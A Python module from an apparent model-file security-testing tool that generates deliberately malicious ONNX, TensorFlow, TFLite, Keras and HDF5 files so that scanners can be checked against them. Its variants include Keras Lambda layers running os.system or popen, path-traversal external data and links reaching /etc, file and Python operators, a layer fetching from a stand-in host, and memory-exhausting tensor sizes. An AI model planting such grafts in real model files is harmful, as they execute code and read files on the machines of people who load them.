"""Graphs that reach what a graph must not reach: see `AlterGraph`."""

from __future__ import annotations

import base64
import json
import marshal
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from random import Random
from typing import Any, ClassVar

from hauberk.core.artifact import ModelFile
from hauberk.core.attack import Attacked, Transform
from hauberk.core.threat import ThreatId
from hauberk.errors import UsageError
from hauberk.methods import model_writing as write

TARGET_NAME = "target.txt"
"""A file outside of the model's folder that some variants reach for."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Grafted:
    """One altered graph.

    Attributes:
        data: The file's bytes for random choices of names and places.
        suffix: Ending of the format.
        reach: What a runtime that follows the graph does: ``operator`` looks up code by name,
            ``file`` opens a path, ``code`` runs bytes that the file carries, ``memory`` believes
            a size.
        token: The name, path, code or size, as it stands in the file.
    """

    data: bytes
    suffix: str
    reach: str
    token: bytes


@dataclass(frozen=True, slots=True, kw_only=True)
class AlterGraph(Transform[ModelFile]):
    """Write a graph with a forbidden operator, path, layer or size in it.

    Operators of domains that nobody brings, in the main graph, in a branch and in training
    graphs; operators of Python; tensors outside of the folder; TensorFlow's file and Python
    operators in graphs, functions and Lite models; Keras layers that carry code, import modules
    or fetch files, in archives, HDF5 and JSON; links and external storage of HDF5.

    Args:
        variant: Name of one variant; by default the random generator picks one.

    References:
        MITRE ATLAS AML.T0018.001. CVE-2022-25882 and CVE-2024-27318 (onnx), CVE-2024-3660,
        CVE-2025-1550, CVE-2025-8747, CVE-2025-9905, CVE-2025-12058 (Keras), SECURITY.md of
        TensorFlow.
    """

    title: ClassVar[str] = "Graft an operator, path or layer into a graph that reaches outside"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("EX-4"), ThreatId("EX-5"))
    subject: ClassVar[type] = ModelFile

    variant: str | None = None

    def apply(self, subject: ModelFile, rng: Random) -> Attacked[ModelFile]:
        """The altered twin, in a file of its own beside ``subject``.

        Raises:
            UsageError: There is no such variant.
        """
        label = self.variant or rng.choice(tuple(GRAFTS))
        if label not in GRAFTS:
            raise UsageError(f"there is no variant {label!r}", expected=" ".join(GRAFTS))
        grafted = GRAFTS[label](rng)
        path = subject.path.parent / f"{label}{grafted.suffix}"
        path.write_bytes(grafted.data)
        truth = {"variant": label, "reach": grafted.reach, "token": grafted.token.hex()}
        return Attacked(subject=ModelFile(name=path.name, path=path), truth=truth)


def _word(rng: Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(4, 12)))


def _outside(rng: Random) -> str:
    """A path out of the folder."""
    up = "../" * rng.randint(1, 6)
    return rng.choice((f"{up}{TARGET_NAME}", f"/etc/{_word(rng)}", f"a/{up}../{_word(rng)}"))


# ONNX


def _onnx(reach: str, make: Callable[[str], bytes], token: str) -> Grafted:
    return Grafted(data=make(token), suffix=".onnx", reach=reach, token=token.encode())


def _domain(rng: Random) -> Grafted:
    return _onnx(
        "operator", lambda t: write.onnx_model([write.onnx_node(_word(rng), t)]), _word(rng)
    )


def _branch(name: str, domain: str) -> bytes:
    inner = write.field(1, write.onnx_node("Run", domain))
    attribute = write.field(1, name) + write.field(6, inner) + write.field(20, 5)
    return write.onnx_node("If", "", write.field(5, attribute))


def _subgraph(rng: Random) -> Grafted:
    name = rng.choice(("then_branch", "else_branch"))
    return _onnx("operator", lambda t: write.onnx_model([_branch(name, t)]), _word(rng))


def _training(rng: Random) -> Grafted:
    def make(token: str) -> bytes:
        graph = write.field(1, write.onnx_node("Run", token))
        return write.onnx_model(more=write.field(20, write.field(2, graph)))

    return _onnx("operator", make, _word(rng))


def _python(rng: Random) -> Grafted:
    name = rng.choice(("PyOp", "PythonOp", "PyCustomOpDef"))
    domain = rng.choice(("ai.onnx.contrib", "com.microsoft"))
    return _onnx("operator", lambda t: write.onnx_model([write.onnx_node(t, domain)]), name)


def _external(rng: Random) -> Grafted:
    def make(token: str) -> bytes:
        return write.onnx_model([], [write.onnx_tensor(external=token)])

    return _onnx("file", make, _outside(rng))


def _constant(rng: Random) -> Grafted:
    """External data of a tensor inside an attribute of a node, which shallow checks miss."""

    def make(token: str) -> bytes:
        tensor = write.onnx_tensor(external=token)
        attribute = write.field(5, write.field(1, "value") + write.field(5, tensor))
        return write.onnx_model([write.onnx_node("Constant", "", attribute)])

    return _onnx("file", make, _outside(rng))


def _huge(rng: Random) -> Grafted:
    size = 1 << rng.randint(40, 62)
    tensor = write.onnx_tensor((size, 2), None)
    token = write.varint(size)
    return Grafted(data=write.onnx_model([], [tensor]), suffix=".onnx", reach="memory", token=token)


# TensorFlow

_FILE_OPERATORS = ("ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "EagerPyFunc")


def _tensorflow(make: Callable[[list[str]], bytes], suffix: str) -> Callable[[Random], Grafted]:
    def grafted(rng: Random) -> Grafted:
        name = rng.choice(_FILE_OPERATORS)
        harmless = rng.choices(("MatMul", "Relu", "BiasAdd", "Placeholder"), k=rng.randint(1, 4))
        names = [*harmless, name]
        rng.shuffle(names)
        return Grafted(data=make(names), suffix=suffix, reach="operator", token=name.encode())

    return grafted


def _lite(rng: Random) -> Grafted:
    name = rng.choice(("Flex" + rng.choice(_FILE_OPERATORS), f"Run{_word(rng)}"))
    data = write.tflite([name])
    return Grafted(data=data, suffix=".tflite", reach="operator", token=name.encode())


# Keras


def _lambda(rng: Random) -> tuple[dict[str, Any], str]:
    source = f"lambda x: __import__('os').{rng.choice(('system', 'popen'))}({_word(rng)!r})"
    code = base64.b64encode(marshal.dumps(compile(source, "x", "eval"))).decode()
    old = {"function": [code, None, None], "function_type": "lambda"}
    new = {"function": {"class_name": "__lambda__", "config": {"code": code}}}
    config = rng.choice((old, new)) | {"name": _word(rng)}
    return {"module": "keras.layers", "class_name": "Lambda", "config": config}, code


def _carries(make: Callable[[dict[str, Any]], bytes], suffix: str) -> Callable[[Random], Grafted]:
    def grafted(rng: Random) -> Grafted:
        layer, code = _lambda(rng)
        data = make(write.keras_model([layer]))
        return Grafted(data=data, suffix=suffix, reach="code", token=code.encode())

    return grafted


def _hdf5(config: dict[str, Any]) -> bytes:
    return write.hdf5([write.hdf5_attribute("model_config", json.dumps(config).encode())])


def _archived(layer: dict[str, Any], token: str, reach: str) -> Grafted:
    data = write.keras_archive(write.keras_model([layer]))
    return Grafted(data=data, suffix=".keras", reach=reach, token=token.encode())


def _imports(rng: Random) -> Grafted:
    module = rng.choice(("os", "subprocess", "builtins", "shutil", _word(rng)))
    layer = {"module": module, "class_name": _word(rng), "config": {}}
    return _archived(layer, module, "operator")


def _fetches(rng: Random) -> Grafted:
    address = f"https://{_word(rng)}.example/{_word(rng)}"
    layer = {"module": "keras.utils", "class_name": "get_file", "config": {"origin": address}}
    return _archived(layer, address, "file")


def _vocabulary(rng: Random) -> Grafted:
    path = _outside(rng)
    name = rng.choice(("StringLookup", "IntegerLookup", "TextVectorization"))
    layer = {"module": "keras.layers", "class_name": name, "config": {"vocabulary": path}}
    return _archived(layer, path, "file")


def _linked(rng: Random) -> Grafted:
    path = _outside(rng)
    data = write.hdf5([write.hdf5_external_link(_word(rng), path)])
    return Grafted(data=data, suffix=".h5", reach="file", token=path.encode())


GRAFTS: Mapping[str, Callable[[Random], Grafted]] = {
    "onnx-domain": _domain,
    "onnx-branch": _subgraph,
    "onnx-training": _training,
    "onnx-python": _python,
    "onnx-external": _external,
    "onnx-constant": _constant,
    "onnx-huge": _huge,
    "saved-model": _tensorflow(write.saved_model, ".pb"),
    "saved-model-function": _tensorflow(lambda names: write.saved_model(["MatMul"], names), ".pb"),
    "frozen-graph": _tensorflow(write.tensorflow_graph, ".pb"),
    "tflite": _lite,
    "keras-lambda": _carries(write.keras_archive, ".keras"),
    "hdf5-lambda": _carries(_hdf5, ".h5"),
    "json-lambda": _carries(lambda config: json.dumps(config).encode(), ".json"),
    "keras-module": _imports,
    "keras-fetch": _fetches,
    "keras-vocabulary": _vocabulary,
    "hdf5-link": _linked,
}
"""Name of a variant to what writes it."""
